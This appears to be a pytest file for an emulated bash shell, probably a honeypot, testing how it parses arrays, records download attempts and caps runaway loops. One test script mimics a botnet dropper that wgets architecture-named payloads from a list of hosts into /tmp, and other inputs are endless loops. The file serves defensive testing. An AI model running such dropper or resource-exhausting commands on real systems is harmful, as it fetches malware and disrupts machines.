# SPDX-License-Identifier: Apache-2.0
"""Arrays of bash; what bash itself does with them is compared in `test_bashisms`."""

from __future__ import annotations

import pytest

from mead.shell import Limit, Offer, Shell
from mead.shell.arrays import is_all, parted


@pytest.mark.parametrize(
    ("name", "whole"),
    [("@", True), ("*", True), ("a[@]", True), ("!a[*]", True), ("!a*", True), ("a", False), ("a[1]", False)],
)
def test_what_stands_for_many_values(name: str, whole: bool) -> None:
    assert is_all(name) is whole


def test_a_name_is_parted() -> None:
    assert parted("a[x y]") == ("a", "x y")
    assert parted("a") is None


def test_every_body_of_a_list_is_an_offer(server: Shell) -> None:
    script = """
    declare -A of=([arm]=a7 [mips]=m)
    hosts=(192.0.2.1 192.0.2.2)
    for host in "${hosts[@]}"; do
      for key in "${!of[@]}"; do wget -q "http://$host/${of[$key]}" -O /tmp/x; done
    done
    """
    offers = [effect.url for effect in server.run(script.encode()).effects if isinstance(effect, Offer)]
    assert offers == [f"http://192.0.2.{host}/{name}" for host in (1, 2) for name in ("a7", "m")]


@pytest.mark.parametrize(
    "line",
    [
        "while :; do a+=(x); done",
        "for ((i=0;;i++)); do a[i]=$i; done",
        "a=({1..9999}); a=(${a[@]} ${a[@]} ${a[@]}); a=(${a[@]} ${a[@]}); echo ${#a[@]}; while :; do :; done",
        "i='a[i]'; a[0]=i; echo $((i))",
    ],
)
def test_no_array_grows_for_ever(server: Shell, line: str) -> None:
    assert [effect for effect in server.run(line.encode()).effects if isinstance(effect, Limit)]
